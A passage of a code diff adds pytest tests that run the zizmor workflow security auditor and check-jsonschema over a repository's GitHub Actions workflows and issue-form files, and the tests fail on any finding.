+        assert (done.returncode, done.stdout, output.read_text(encoding="utf-8")) == (0, "", f"pr={number}\n")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["zizmor", "--offline", "--quiet", ".github/workflows"],
+        ["check-jsonschema", "--builtin-schema", "vendor.github-workflows", *sorted(str(p) for p in WORKFLOWS.glob("*.yml"))],
+        ["check-jsonschema", "--builtin-schema", "vendor.github-issue-forms", ".github/ISSUE_TEMPLATE/credential-idea.yml"],
+        ["check-jsonschema", "--builtin-schema", "vendor.github-issue-config", ".github/ISSUE_TEMPLATE/config.yml"],
+    ],
+    ids=["zizmor", "workflows", "issue-forms", "issue-config"],
+)
+def test_workflows_and_issue_forms_pass_the_offline_linters(command: list[str]) -> None:
+    """What CI runs, here too: a finding fails the tests, not only the lint step."""
+    tool = Path(sys.executable).parent / command[0]
+    done = subprocess.run(
+        [str(tool), *command[1:]], cwd=ROOT, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.stdout.startswith("No findings to report." if command[0] == "zizmor" else "ok -- validation done\n")
 
 
 @pytest.mark.parametrize("name", ["review-relay.yml", "review-gate.yml"])
